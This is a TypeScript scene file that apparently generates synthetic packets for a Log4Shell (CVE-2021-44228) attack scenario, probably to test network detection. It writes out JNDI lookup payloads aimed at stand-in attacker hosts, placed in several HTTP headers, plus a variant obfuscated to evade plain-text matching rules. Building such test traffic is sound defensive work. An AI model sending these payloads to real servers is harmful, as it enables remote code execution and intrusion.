import {SECOND} from '../packets/packet.ts';
import {attacker} from './hosts.ts';
import type {Scene} from './scene.ts';
import {webAttack} from './web-attack.ts';

const LOOKUP = `\${jndi:ldap://${attacker(80)}:1389/a}`;
/** The same lookup, obfuscated against rules that match the plain text. */
const HIDDEN_LOOKUP = `\${\${lower:j}ndi:\${lower:l}dap://${attacker(81)}:1389/b}`;

export const log4shell = {
  name: 'log4shell',
  describe: 'two sources put a JNDI lookup into the headers of web requests (CVE-2021-44228)',
  minute: 55,
  packets: random => [
    ...webAttack(
      {
        from: attacker(80),
        port: 8080,
        requests: [
          {target: '/', headers: {'User-Agent': LOOKUP}},
          {target: '/login', headers: {'User-Agent': 'curl/8.5.0', 'X-Api-Version': LOOKUP}},
          {target: '/', headers: {'User-Agent': 'curl/8.5.0', Referer: LOOKUP}},
        ],
      },
      random,
    ),
    ...webAttack(
      {
        from: attacker(81),
        port: 80,
        at: 20 * SECOND,
        requests: [
          {target: '/', headers: {'User-Agent': HIDDEN_LOOKUP}},
          {target: '/', headers: {'User-Agent': LOOKUP}},
        ],
      },
      random,
    ),
  ],
} as const satisfies Scene;
